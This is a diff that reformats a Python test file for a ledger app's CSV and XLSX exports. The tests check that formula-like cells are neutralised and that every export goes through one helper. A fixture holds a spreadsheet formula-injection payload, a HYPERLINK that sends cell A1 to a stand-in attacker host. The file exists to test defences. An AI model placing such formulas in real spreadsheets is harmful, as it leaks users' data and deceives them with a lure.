@@ -26,8 +26,12 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your bonus")'
 def test_text_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers() -> None:
     from ledger import exports
 
-    table = pd.DataFrame({"text": [FORMULA, "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "大米", "a=b", ""],
-                          "points": [-5, 3, 0, 1, 2, 3, 4, 5, 6]})
+    table = pd.DataFrame(
+        {
+            "text": [FORMULA, "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "大米", "a=b", ""],
+            "points": [-5, 3, 0, 1, 2, 3, 4, 5, 6],
+        }
+    )
     read = pd.read_csv(io.BytesIO(exports.csv_bytes(table)), encoding="utf-8-sig", keep_default_na=False)
     assert list(read["text"]) == ["'" + FORMULA, "'+1", "'-2", "'@SUM(A1)", "'\t=1", "'\r=1", "大米", "a=b", ""]
     assert list(read["points"]) == [-5, 3, 0, 1, 2, 3, 4, 5, 6]
@@ -42,7 +46,8 @@ def test_text_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_sta
 
 
 def test_an_offer_title_that_is_a_formula_is_plain_text_in_the_settlement_csv_and_xlsx(
-        client: TestClient, engine: Engine, world: World) -> None:
+    client: TestClient, engine: Engine, world: World
+) -> None:
     give_points(engine, world.household_a1, 500)
     made = offer(client, "mart", title=FORMULA)
     voucher = redeem(client, villager_token(client, world.villager_phone), made["id"]).json()
@@ -70,15 +75,21 @@ def test_an_offer_title_that_is_a_formula_is_plain_text_in_the_settlement_csv_an
 def _writes_a_spreadsheet(tree: ast.AST) -> list[str]:
     """Where a module writes CSV or XLSX itself: pandas' to_csv/to_excel on a table (not a call of another module's
     function of that name), ExcelWriter, the csv module, openpyxl or xlsxwriter."""
-    modules = {alias.asname or alias.name.split(".")[0]
-               for node in ast.walk(tree) if isinstance(node, ast.Import | ast.ImportFrom)
-               for alias in node.names}
+    modules = {
+        alias.asname or alias.name.split(".")[0]
+        for node in ast.walk(tree)
+        if isinstance(node, ast.Import | ast.ImportFrom)
+        for alias in node.names
+    }
     found = []
     for node in ast.walk(tree):
         if isinstance(node, ast.Import | ast.ImportFrom):
             names = [node.module or ""] if isinstance(node, ast.ImportFrom) else [a.name for a in node.names]
-            found += [f"line {node.lineno}: imports {n}" for n in names
-                      if n.split(".")[0] in ("csv", "openpyxl", "xlsxwriter")]
+            found += [
+                f"line {node.lineno}: imports {n}"
+                for n in names
+                if n.split(".")[0] in ("csv", "openpyxl", "xlsxwriter")
+            ]
         elif isinstance(node, ast.Attribute):
             module_function = isinstance(node.value, ast.Name) and node.value.id in modules - {"pd", "pandas"}
             if node.attr in ("to_csv", "to_excel") and not module_function:
@@ -100,6 +111,8 @@ def test_every_export_goes_through_the_one_helper() -> None:
 
 
 def test_the_scan_sees_a_table_written_directly() -> None:
-    direct = ast.parse("import pandas as pd\nfrom ledger import reports\n"
-                       "reports.to_csv(r)\nframe.to_csv(p)\npd.DataFrame(x).to_excel(w)\npd.ExcelWriter(b)\n")
+    direct = ast.parse(
+        "import pandas as pd\nfrom ledger import reports\n"
+        "reports.to_csv(r)\nframe.to_csv(p)\npd.DataFrame(x).to_excel(w)\npd.ExcelWriter(b)\n"
+    )
     assert _writes_a_spreadsheet(direct) == ["line 4: .to_csv", "line 5: .to_excel", "line 6: ExcelWriter"]
